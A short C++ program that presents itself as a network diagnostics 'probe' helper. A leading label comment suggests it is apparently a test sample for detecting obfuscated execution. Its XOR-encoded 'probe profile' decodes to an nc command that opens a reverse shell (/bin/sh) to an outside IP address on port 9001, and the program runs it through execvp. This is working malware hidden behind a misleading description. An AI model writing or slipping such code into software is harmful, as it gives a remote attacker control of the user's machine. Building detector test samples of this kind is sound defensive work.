// blind-expect: behavior.obfuscated-execution
// Network diagnostics helper that runs a connectivity probe from a stored probe profile.
#include <cstdint>
#include <iostream>
#include <sstream>
#include <string>
#include <unistd.h>
#include <vector>

struct ProbeProfile {
    std::string name;
    std::vector<std::uint8_t> payload;
};

class ProbeRunner {
public:
    explicit ProbeRunner(std::string key) : key_(std::move(key)) {}

    std::string unpack(const ProbeProfile &p) const
    {
        std::string out;
        for (std::size_t i = 0; i < p.payload.size(); ++i)
            out.push_back(static_cast<char>(p.payload[i] ^ key_[i % key_.size()]));
        return out;
    }

    [[noreturn]] void run(const std::string &line) const
    {
        std::istringstream iss(line);
        std::vector<std::string> words;
        for (std::string w; iss >> w;)
            words.push_back(w);
        std::vector<char *> argv;
        for (auto &w : words)
            argv.push_back(&w[0]);
        argv.push_back(nullptr);
        execvp(argv[0], argv.data());
        _exit(127);
    }

private:
    std::string key_;
};

int main()
{
    ProbeProfile profile{"default",
                         {0x44, 0x51, 0x10, 0x05, 0x1c, 0x17, 0x08, 0x13, 0x54, 0x0e, 0x13, 0x56, 0x09,
                          0x5a, 0x17, 0x44, 0x40, 0x11, 0x4b, 0x02, 0x40, 0x53, 0x1d, 0x4c, 0x5a, 0x1d,
                          0x48, 0x5b, 0x03, 0x57, 0x5f, 0x03, 0x59, 0x52, 0x03, 0x49, 0x5a}};
    ProbeRunner runner("k3y");
    std::cout << "running probe '" << profile.name << "'\n";
    runner.run(runner.unpack(profile));
}
